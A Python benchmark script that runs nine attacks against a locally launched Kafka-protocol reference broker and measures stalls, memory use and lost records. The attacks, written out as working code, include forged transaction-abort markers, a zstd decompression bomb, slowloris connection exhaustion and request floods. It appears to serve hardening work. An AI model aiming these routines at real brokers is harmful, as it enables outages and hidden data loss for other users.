"""The reference broker under attack, measured: per attack, what another client saw, what the broker held,
what was lost (a script, not a test).

    .venv/bin/python bench/bench_attacks.py                       # this checkout's broker
    .venv/bin/python bench/bench_attacks.py --before c6a89c1      # and the broker of an older commit beside it
    .venv/bin/python bench/bench_attacks.py --case bomb --case slowloris

Each attack runs against a fresh broker (no traces). While it runs, another client (tests/stall_probe.py)
sends ApiVersions every 20 ms on its own connection and the longest round trip is kept: the longest stall
another client saw. The broker's peak resident memory (VmHWM, reset after start-up) gives what it held,
beside the bytes the attacker sent. "lost" says what the victims could not read, or who was locked out:
- forged-marker: a client forges an ABORT marker with a transactional victim's producer id and epoch; the
  victim commits 50 records; lost = committed records a read_committed consumer does not read;
- made-up-transaction: a transactional batch with a made-up producer id and no transactional id, then 5
  plain records; lost = records a read_committed consumer does not read;
- malformed-records: the malformed batches of tests/crafted_batches.py (every codec), then 20 good records;
  lost = good records a librdkafka consumer does not read;
- bomb: a zstd batch of 1.2 million records (0.9 MB), then a key-range Fetch of half the hash space;
  lost = the fetching connection closed;
- decode-expansion: one Metadata request of 600,000 topic ids (10 MiB);
- slowloris: max.connections=50 taken by connections trickling a frame; lost = seconds a new client
  waited to be served (at most 20);
- near-cap-commit: one OffsetCommit of a million ranges;
- heartbeat-flood: 20,000 share groups, one ShareGroupHeartbeat each; the flood's own time is printed too;
- join-metadata: 200 classic members join one group with 512 KiB of protocol metadata each.
`--before REV` runs the same attacks against the broker of git revision REV (a temporary worktree, its
packages laid out as kipcheck's), so one run prints before and after.
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests"))

from confluent_kafka import Consumer, Producer  # noqa: E402
from crafted_batches import CODECS, CONTROL, TRANSACTIONAL, ZSTD, batch, good_records, malformed_batches, record  # noqa: E402
from kio.index import load_request_schema  # noqa: E402
from stall_probe import StallProbe  # noqa: E402

from kipcheck.impl.consumer.connection import encode_entity, encode_request  # noqa: E402
from kipcheck.impl.wire.batches import split_batches  # noqa: E402
from kipcheck.impl.wire.codec import build  # noqa: E402
from kipcheck.oracle.conformance.probes.raw_client import RawClient  # noqa: E402
from kipcheck.oracle.conformance.scenarios.clients import QUIET, create_topic, produce, read_plain  # noqa: E402
from kipcheck.oracle.conformance.targets.embedded import DEFAULT_LAUNCHER, EmbeddedBroker  # noqa: E402

TIMEOUT_S = 60
LOCKOUT_MAX_S = 20


def produce_raw(port: int, topic: str, records: bytes, transactional_id: str | None = None):
    client = RawClient(port, timeout_s=600)
    answer = client.request(0, 9, transactional_id=transactional_id, acks=-1, timeout=30000, topic_data=[
        {"name": topic, "partition_data": [{"index": 0, "records": records}]}])
    client.close()
    return answer


def fetch_raw(port: int, topic: str, key_ranges: list[int] | None = None, isolation_level: int = 0):
    client = RawClient(port, timeout_s=600)
    partition = {"partition": 0, "current_leader_epoch": -1, "fetch_offset": 0, "last_fetched_epoch": -1,
                 "log_start_offset": -1, "partition_max_bytes": 1 << 24}
    if key_ranges is not None:
        partition["key_ranges"] = key_ranges
    answer = client.request(1, 12, replica_id=-1, max_wait=0, min_bytes=0, max_bytes=1 << 26,
                            isolation_level=isolation_level, session_id=0, session_epoch=-1, rack_id="",
                            forgotten_topics_data=[], topics=[{"topic": topic, "partitions": [partition]}])
    client.close()
    return answer


def read_committed(bootstrap: str, topic: str, expected: int, timeout_s: float = 20) -> int:
    consumer = Consumer({"bootstrap.servers": bootstrap, "group.id": f"reader-{uuid.uuid4()}",
                         "auto.offset.reset": "earliest", "isolation.level": "read_committed",
                         "enable.auto.commit": False, **QUIET})
    consumer.subscribe([topic])
    read, deadline = 0, time.monotonic() + timeout_s
    try:
        while read < expected and time.monotonic() < deadline:
            message = consumer.poll(0.5)
            read += message is not None and message.error() is None
    finally:
        consumer.close()
    return read


# -- the attacks: each returns (bytes the attacker sent, what was lost) -------------------------------------

def forged_marker(broker) -> tuple[int, str]:
    create_topic(broker.bootstrap, "ledger", 1)
    victim = Producer({"bootstrap.servers": broker.bootstrap, "transactional.id": "ledger-writer", **QUIET})
    victim.init_transactions(TIMEOUT_S)
    victim.begin_transaction()
    for index in range(50):
        victim.produce("ledger", value=b"entry-%d" % index, partition=0)
    victim.flush(TIMEOUT_S)
    answer = fetch_raw(broker.port, "ledger")
    (_, header), = split_batches(bytes(answer.responses[0].partitions[0].records))
    forged = batch(record(0, key=struct.pack(">hh", 0, 0), value=struct.pack(">hi", 0, 0)), 1,
                   producer_id=header.producer_id, producer_epoch=header.producer_epoch,
                   attributes=TRANSACTIONAL | CONTROL)
    produce_raw(broker.port, "ledger", forged)
    victim.commit_transaction(TIMEOUT_S)
    return len(forged), f"{50 - read_committed(broker.bootstrap, 'ledger', 50)} of 50 committed records"


def made_up_transaction(broker) -> tuple[int, str]:
    create_topic(broker.bootstrap, "orders", 1)
    made_up = batch(good_records(3), 3, producer_id=424242, producer_epoch=0, base_sequence=0, attributes=TRANSACTIONAL)
    produce_raw(broker.port, "orders", made_up)
    produce(broker.bootstrap, "orders", [(0, b"k", b"later-%d" % index) for index in range(5)])
    return len(made_up), f"{5 - read_committed(broker.bootstrap, 'orders', 5)} of 5 later records"


def malformed_records(broker) -> tuple[int, str]:
    create_topic(broker.bootstrap, "poison", 1)
    sent = 0
    for codec in CODECS:
        for _, data in malformed_batches(codec):
            produce_raw(broker.port, "poison", data)
            sent += len(data)
    produce(broker.bootstrap, "poison", [(0, b"k", b"good-%d" % index) for index in range(20)])
    good = [message for message in read_plain(broker.bootstrap, "poison", 1, 10_000, timeout_s=15)
            if message.value().startswith(b"good-")]
    return sent, f"{20 - len(good)} of 20 good records"


def bomb(broker) -> tuple[int, str]:
    create_topic(broker.bootstrap, "bombed", 1, configs={"accept.range.fetch": "true"})
    count = 1_200_000
    data = batch(b"".join(record(index, key=b"", value=b"") for index in range(count)), count, codec=ZSTD)
    produce_raw(broker.port, "bombed", data)
    answer = fetch_raw(broker.port, "bombed", key_ranges=[0, 2**62 - 1])
    return len(data), "the fetching connection" if answer is None else "nothing"


def decode_expansion(broker) -> tuple[int, str]:
    body = build(load_request_schema(3, 12), allow_auto_topic_creation=False, include_topic_authorized_operations=False,
                 topics=[{"topic_id": uuid.UUID(int=index + 1), "name": None} for index in range(600_000)])
    frame = encode_entity(body, 1, "attacker")
    send_and_read(broker.port, frame)
    return len(frame), "nothing"


def send_and_read(port: int, frame: bytes) -> bool:
    with socket.create_connection(("127.0.0.1", port), timeout=600) as connection:
        connection.sendall(frame)
        header = connection.recv(4, socket.MSG_WAITALL)
        if len(header) == 4:
            connection.recv(struct.unpack(">i", header)[0], socket.MSG_WAITALL)
        return len(header) == 4


def slowloris(broker) -> tuple[int, str]:
    trickling = [socket.create_connection(("127.0.0.1", broker.port)) for _ in range(50)]
    for connection in trickling:
        connection.sendall(struct.pack(">i", 100) + b"\x00")
    started = time.monotonic()
    try:
        client = RawClient(broker.port, timeout_s=LOCKOUT_MAX_S)
        client.request(18, 3, client_software_name="newcomer", client_software_version="1")
        client.close()
        waited = time.monotonic() - started
    except OSError:
        waited = LOCKOUT_MAX_S
    finally:
        for connection in trickling:
            connection.close()
    return 50 * 5, f"a new client waited {waited:.1f} s" + (" (gave up)" if waited >= LOCKOUT_MAX_S else "")


def near_cap_commit(broker) -> tuple[int, str]:
    create_topic(broker.bootstrap, "ledger", 1)
    flat = [offset for number in range(1_000_000) for offset in (2 * number, 2 * number)]
    frame = encode_request(8, 9, 1, "attacker", {"group_id": "g", "member_id": "", "generation_id_or_member_epoch": -1,
                                                "topics": [{"name": "ledger", "partitions": [
                                                    {"partition_index": 0, "committed_offset": -1,
                                                     "committed_metadata": None, "offset_ranges": flat}]}]})
    send_and_read(broker.port, frame)
    return len(frame), "nothing"


def heartbeat_flood(broker) -> tuple[int, str]:
    client = RawClient(broker.port, timeout_s=600)
    started = time.monotonic()
    for number in range(20_000):
        client.request(76, 1, group_id=f"g{number}", member_id=str(uuid.uuid4()), member_epoch=0, rack_id=None,
                       subscribed_topic_names=["t"])
    client.close()
    return 20_000 * 80, f"nothing (the flood took {time.monotonic() - started:.1f} s)"


def join_metadata(broker) -> tuple[int, str]:
    def join(number: int) -> None:
        client = RawClient(broker.port, timeout_s=600)
        body = dict(group_id="big", session_timeout=30000, rebalance_timeout=60000, member_id="",
                    group_instance_id=None, protocol_type="consumer",
                    protocols=[{"name": "range", "metadata": bytes([number % 256]) * (512 << 10)}], reason=None)
        answer = client.request(11, 5, **body)
        if answer.error_code.name == "member_id_required":
            client.request(11, 5, **{**body, "member_id": answer.member_id})
        client.close()

    with ThreadPoolExecutor(200) as members:
        list(members.map(join, range(200)))
    return 200 * (512 << 10), "nothing"


CASES = {"forged-marker": forged_marker, "made-up-transaction": made_up_transaction,
         "malformed-records": malformed_records, "bomb": bomb, "decode-expansion": decode_expansion,
         "slowloris": slowloris, "near-cap-commit": near_cap_commit, "heartbeat-flood": heartbeat_flood,
         "join-metadata": join_metadata}
SETTINGS = {"slowloris": {"max.connections": "50"}}


def run(case: str, launcher: tuple[str, ...], work_dir: Path) -> str:
    settings = {"share.auto.offset.reset": "earliest", **SETTINGS.get(case, {})}
    with EmbeddedBroker(work_dir, settings, launcher=launcher, traced=False) as broker:
        broker.reset_peak_memory()
        before = broker.peak_memory_bytes()
        with StallProbe(broker.port) as probe:
            sent, lost = CASES[case](broker)
        held = broker.peak_memory_bytes() - before
        alive = "" if broker.alive() else ", the broker died"
    return (f"{held / (1 << 20):8.1f} MiB held for {sent / (1 << 20):7.2f} MiB sent, "
            f"longest stall {probe.longest_s:6.2f} s, lost: {lost}{alive}")


def old_checkout(revision: str, directory: Path) -> tuple[str, ...]:
    """A launcher running `kipcheck broker` from git revision `revision`: a worktree, its folders laid out as
    the package kipcheck (as pyproject.toml maps them) on PYTHONPATH ahead of this checkout's install."""
    tree = directory / "tree"
    subprocess.run(["git", "-C", str(ROOT), "worktree", "add", "--detach", str(tree), revision], check=True,
                   capture_output=True)
    package = directory / "packages" / "kipcheck"
    package.mkdir(parents=True)
    for item in (tree / "kipcheck").iterdir():
        (package / item.name).symlink_to(item)
    for folder in ("spec", "model", "impl", "oracle"):
        (package / folder).symlink_to(tree / folder)
    code = (f"import sys; sys.path.insert(0, {str(directory / 'packages')!r}); "
            "from kipcheck.cli import main; raise SystemExit(main())")
    return (sys.executable, "-c", code, "broker")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--case", action="append", choices=sorted(CASES), help="an attack (default: every one)")
    parser.add_argument("--before", metavar="REV", help="also run the attacks against the broker of this git revision")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as scratch:
        brokers = {"after": DEFAULT_LAUNCHER}
        if args.before:
            brokers = {"before": old_checkout(args.before, Path(scratch) / "before"), **brokers}
        try:
            for case in args.case or CASES:
                for name, launcher in brokers.items():
                    line = run(case, launcher, Path(tempfile.mkdtemp(dir=scratch)))
                    print(f"{case:20s} {name:6s} {line}", flush=True)
        finally:
            if args.before:
                subprocess.run(["git", "-C", str(ROOT), "worktree", "remove", "--force",
                                str(Path(scratch) / "before" / "tree")], capture_output=True)
    print(f"load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} cores")


if __name__ == "__main__":
    threading.excepthook = lambda hook: None  # a probe thread cut off by a dying broker is part of the figures
    main()
